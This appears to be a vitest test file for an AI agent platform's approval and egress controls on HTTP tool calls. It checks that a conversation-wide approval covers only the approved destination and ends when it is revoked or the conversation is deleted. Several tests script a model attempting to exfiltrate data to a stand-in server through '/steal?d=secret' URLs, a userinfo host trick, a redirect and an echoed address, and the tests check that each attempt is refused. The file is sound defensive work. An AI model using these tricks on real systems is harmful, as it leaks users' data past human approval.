import { eq } from "drizzle-orm";
import { beforeEach, describe, expect, it } from "vitest";
import { db } from "../../../../db/client.ts";
import { approvals, auditLog, standingApprovals } from "../../../../db/schema/index.ts";
import { findSystemAgent } from "../../../../lib/agents/index.ts";
import { deleteConversation, restoreConversation } from "../../../../lib/conversations/index.ts";
import type { Actor } from "../../../../lib/core/actor.ts";
import { loadConversationView } from "../../../../lib/messages/index.ts";
import { fold } from "../../../../lib/protocol/fold.ts";
import { hub } from "../../../../lib/realtime/index.ts";
import {
  cancelRun,
  decideApproval,
  listStandingApprovals,
  revokeStandingApproval,
  startRun,
} from "../../../../lib/runs/index.ts";
import { setUserSuperuser } from "../../../../lib/users/index.ts";
import { call, say } from "../../../support/model-servers/index.ts";
import { startOutside } from "../../../support/outside-server.ts";
import {
  approvalsOf,
  onlyApproval,
  outside,
  POST,
  superuser,
  waitingRun,
  withApprovals,
  work,
} from "./approval-runs.ts";

const elsewhere = await startOutside();
process.env.ALMA_EGRESS_ALLOW = `${process.env.ALMA_EGRESS_ALLOW},${elsewhere.host}`;

withApprovals();
beforeEach(() => {
  elsewhere.received.length = 0;
});

const origin = new URL(POST.url).origin;
const CONVERSATION = { decision: "approve", scope: "conversation" } as const;
const idOf = async (agent: string) => (await findSystemAgent(agent))?.agent_id;
const standingOf = async (ada: Actor) => (await listStandingApprovals(ada, { page: 1, per_page: 20 })).items;

/** A conversation in which POSTs to the outside server are allowed, after the one that was asked about. */
async function allowed(ada: Actor) {
  const waiting = await waitingRun(ada);
  await decideApproval(ada, waiting.approval.approval_id, CONVERSATION);
  await work(waiting.run_id);
  expect(outside.received).toHaveLength(1);
  outside.received.length = 0;
  return waiting;
}

/** The next message of a conversation, worked on as far as it goes. */
async function next(
  ada: Actor,
  { conversation_id, provider }: Awaited<ReturnType<typeof waitingRun>>,
  input: Record<string, unknown>,
  tool = "http_request",
) {
  provider.play([call(tool, input), say("Done again.")]);
  const agent_id = await idOf("web_agent");
  const { run } = await startRun(ada, { conversation_id, content: "once more", agent_id });
  await work(run.run_id);
  return { run_id: run.run_id, asked: await approvalsOf(ada, run.run_id) };
}

describe("a yes for the conversation", () => {
  it("says what it covers before it is given, and covers the same tool and destination from then on", async () => {
    const ada = await superuser();
    const first = await waitingRun(ada);
    const { conversation_id, approval } = first;
    expect(approval).toMatchObject({ destination: origin, scope: "once", decided_by: null });
    const view = async () => (await loadConversationView(ada, conversation_id)).view;
    let live = await view();
    expect(live.messages.at(-1)?.tool_calls).toMatchObject([{ approval: { destination: origin, status: "pending" } }]);
    const unsubscribe = hub().subscribe(conversation_id, (event) => {
      live = fold(live, event);
    });
    const decided = await decideApproval(ada, approval.approval_id, CONVERSATION);
    expect(decided).toMatchObject({ status: "approved", scope: "conversation", decided_by: ada.user_id });
    await work(first.run_id);
    expect(await standingOf(ada)).toMatchObject([{ conversation_id, tool_name: "http_request", destination: origin }]);
    const other = { method: "DELETE", url: `${origin}/elsewhere?x=1`, headers: { "x-other": "1" } };
    const { asked } = await next(ada, first, other);
    unsubscribe();
    expect(asked).toEqual([]);
    expect(outside.received.map(({ method, path }) => `${method} ${path}`)).toEqual([
      "POST /orders",
      "DELETE /elsewhere?x=1",
    ]);
    const stored = await view();
    expect(live.standing_approvals).toEqual(stored.standing_approvals);
    expect(stored.standing_approvals).toHaveLength(1);
    expect(live.messages.at(-1)?.tool_calls).toEqual(stored.messages.at(-1)?.tool_calls);
    const audited = await db().select().from(auditLog).where(eq(auditLog.actor_id, ada.user_id));
    const entry = audited.find(({ event }) => event === "approval.decided");
    expect(entry?.data).toMatchObject({ scope: "conversation", destination: origin });
  });

  it("covers agents that are delegated to", async () => {
    const ada = await superuser();
    const first = await allowed(ada);
    const tasks = [{ agent: "web_agent", task: "order it again" }];
    first.provider.play((request) => {
      const body = JSON.stringify(request.body);
      if (body.includes("delegate this"))
        return body.includes("Ordered") ? [say("Both.")] : [call("delegate", { tasks })];
      return body.includes("made") ? [say("Ordered.")] : [call("http_request", POST)];
    });
    const { run } = await startRun(ada, {
      conversation_id: first.conversation_id,
      content: "delegate this",
      agent_id: await idOf("orchestrator"),
    });
    await work(run.run_id);
    expect(await approvalsOf(ada, run.run_id)).toEqual([]);
    expect(outside.received).toMatchObject([{ method: "POST", path: "/orders" }]);
  });

  it("covers no other host, port, tool, conversation or person", async () => {
    const ada = await superuser();
    const first = await allowed(ada);
    const otherHost = await next(ada, first, { ...POST, url: elsewhere.url("/orders") });
    expect(otherHost.asked).toMatchObject([{ status: "pending", destination: new URL(elsewhere.url("/")).origin }]);
    await cancelRun(ada, otherHost.run_id);
    const hidden = await next(ada, first, { ...POST, url: `${origin}@${elsewhere.host}/orders` });
    expect(hidden.asked).toMatchObject([{ status: "pending" }]);
    await cancelRun(ada, hidden.run_id);
    // The conversation has read an answer from outside: an address that nobody named is asked about, by tool.
    const otherTool = await next(ada, first, { url: `${origin}/made-up?d=secret` }, "web_fetch");
    expect(otherTool.asked).toMatchObject([{ tool_name: "web_fetch", status: "pending" }]);
    await cancelRun(ada, otherTool.run_id);
    const otherConversation = await waitingRun(ada);
    expect(otherConversation.approval.status).toBe("pending");
    await cancelRun(ada, otherConversation.run_id);
    const eve = await superuser();
    await expect(revokeStandingApproval(eve, (await standingOf(ada))[0]?.standing_id ?? "")).rejects.toMatchObject({
      code: "NOT_FOUND",
    });
    expect(await standingOf(eve)).toEqual([]);
    await db()
      .update(standingApprovals)
      .set({ user_id: eve.user_id })
      .where(eq(standingApprovals.user_id, ada.user_id));
    const stolen = await next(ada, { ...first, provider: otherConversation.provider }, POST);
    expect(stolen.asked).toMatchObject([{ status: "pending" }]);
    expect([...outside.received, ...elsewhere.received]).toEqual([]);
  });

  it("opens an address that nobody named at its destination only, once something untrusted was read", async () => {
    const ada = await superuser();
    const first = await allowed(ada);
    const made = await next(ada, first, { url: `${origin}/made-up?d=secret` });
    expect(made.asked).toEqual([]);
    const away = await next(ada, first, { url: elsewhere.url("/made-up?d=secret") });
    expect(away.asked).toMatchObject([{ status: "pending" }]);
    expect(elsewhere.received).toEqual([]);
    expect(outside.received.map(({ path }) => path)).toEqual(["/made-up?d=secret"]);
  });

  it("is left neither by a redirect nor by an answer that says an address again", async () => {
    const ada = await superuser();
    const first = await allowed(ada);
    const stolen = elsewhere.url("/steal?d=secret");
    const sentOn = await next(ada, first, { url: `${origin}/leave?to=${encodeURIComponent(stolen)}` });
    expect(sentOn.asked).toEqual([]);
    const calls = async () => (await first.answer())?.tool_calls;
    expect(await calls()).toMatchObject([{ result: { error: expect.stringContaining("EGRESS_REFUSED") } }]);
    const told = [{ url: `${origin}/echo?to=${encodeURIComponent(stolen)}` }, { url: stolen }];
    first.provider.play([...told.map((input) => call("http_request", input)), say("Sent.")]);
    const { conversation_id } = first;
    const { run } = await startRun(ada, { conversation_id, content: "again", agent_id: await idOf("web_agent") });
    await work(run.run_id);
    expect(await calls()).toMatchObject([
      { result: { result: { body: `you said ${stolen} to me` } } },
      { status: "waiting" },
    ]);
    expect(await approvalsOf(ada, run.run_id)).toMatchObject([{ status: "pending", tool_input: { url: stolen } }]);
    expect(elsewhere.received).toEqual([]);
  });

  it("can be taken back: the next call asks, and readers are told", async () => {
    const ada = await superuser();
    const first = await allowed(ada);
    const [standing] = await standingOf(ada);
    let live = (await loadConversationView(ada, first.conversation_id)).view;
    const unsubscribe = hub().subscribe(first.conversation_id, (event) => {
      live = fold(live, event);
    });
    await revokeStandingApproval(ada, standing?.standing_id ?? "");
    unsubscribe();
    expect(live.standing_approvals).toEqual([]);
    await expect(revokeStandingApproval(ada, standing?.standing_id ?? "")).rejects.toMatchObject({ code: "NOT_FOUND" });
    const { asked } = await next(ada, first, POST);
    expect(asked).toMatchObject([{ status: "pending" }]);
    expect(outside.received).toEqual([]);
  });

  it("ends with its conversation, also when that comes back, and with the rights of its person", async () => {
    const ada = await superuser();
    const first = await allowed(ada);
    await deleteConversation(ada, first.conversation_id);
    expect(await standingOf(ada)).toEqual([]);
    await restoreConversation(ada, first.conversation_id);
    expect(await standingOf(ada)).toEqual([]);
    const other = await allowed(ada);
    expect(await standingOf(ada)).toHaveLength(1);
    const root = await superuser();
    await setUserSuperuser(root, ada.user_id, false);
    expect(await standingOf(ada)).toEqual([]);
    await setUserSuperuser(root, ada.user_id, true);
    expect((await next(ada, other, POST)).asked).toMatchObject([{ status: "pending" }]);
  });
});

describe("a decision with a scope", () => {
  it("is refused for a no, and for a call that has no destination to bind it to", async () => {
    const ada = await superuser();
    const { approval, run_id } = await waitingRun(ada);
    const id = approval.approval_id;
    await expect(decideApproval(ada, id, { decision: "deny", scope: "conversation" })).rejects.toMatchObject({
      code: "VALIDATION_ERROR",
    });
    await db().execute(`update run_events set data = (data::jsonb - 'destination')::json where run_id = '${run_id}'`);
    await expect(decideApproval(ada, id, CONVERSATION)).rejects.toMatchObject({ code: "CONFLICT" });
    expect((await onlyApproval(ada, run_id)).status).toBe("pending");
    await cancelRun(ada, run_id);
  });

  it("is not changed by a second one, which is told who decided and when", async () => {
    const ada = await superuser();
    const { approval } = await waitingRun(ada);
    const id = approval.approval_id;
    const first = await decideApproval(ada, id, { decision: "approve" });
    await expect(decideApproval(ada, id, CONVERSATION)).rejects.toMatchObject({
      code: "CONFLICT",
      message: `You approved this already, at ${first.decided_at}.`,
      details: expect.arrayContaining([{ field: "decided_by", message: ada.user_id }]),
    });
    expect(await standingOf(ada)).toEqual([]);
    const [row] = await db().select().from(approvals).where(eq(approvals.approval_id, id));
    expect(row?.scope).toBe("once");
  });
});

it("gives the model the words of a no as they were written", async () => {
  const ada = await superuser();
  const { approval, run_id, provider } = await waitingRun(ada);
  const reason = '不要这家店："太贵了"\nask me first';
  await decideApproval(ada, approval.approval_id, { decision: "deny", reason });
  await work(run_id);
  const body = provider.requests.at(-1)?.body;
  const texts: string[] = [];
  JSON.stringify(body, (_key, value: unknown) => {
    if (typeof value === "string") texts.push(value);
    return value;
  });
  const told = texts.map((text) => (text.startsWith("{") ? (JSON.parse(text).error ?? "") : text));
  expect(told.some((text: string) => text.includes(reason))).toBe(true);
});
